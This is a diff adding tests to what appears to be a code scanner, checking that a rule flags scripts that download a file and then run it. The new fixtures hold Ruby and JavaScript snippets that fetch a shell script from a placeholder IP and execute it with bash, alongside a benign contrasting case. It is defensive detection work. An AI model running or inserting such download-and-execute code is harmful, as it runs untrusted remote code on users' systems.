@@ -172,3 +172,17 @@ def test_go_writes_to_a_dialled_connection():
 ])
 def test_powershell_download_saved_to_a_variable_then_run(text):
     assert top("setup.ps1", text, "IG701") in HIGH
+
+
+@pytest.mark.parametrize("path,text", [
+    ("fetch.rb", 'require "open-uri"\npath = File.join(Dir.tmpdir, "helper.sh")\nFile.write(path, URI.open("https://203.0.113.7/h.sh").read)\nsystem("bash", path)\n'),
+    ("fetch.js", "const res = await fetch('https://203.0.113.7/h.sh');\nconst p = '/tmp/h.sh';\nfs.writeFileSync(p, await res.text());\nexecFileSync('bash', [p]);\n"),
+])
+def test_download_saved_by_path_then_run(path, text):
+    assert top(path, text, "IG701") in HIGH
+
+
+def test_download_saved_then_handed_to_a_fixed_program_is_not_code():
+    text = ("const res = await fetch('https://api.github.com/repos/a/b/releases/latest');\nconst out = 'release.json';\n"
+            "fs.writeFileSync(out, JSON.stringify(await res.json()));\nexecFileSync('git', ['add', out]);\n")
+    assert top("fetch.js", text, "IG701") in (None, Severity.LOW, Severity.MEDIUM)
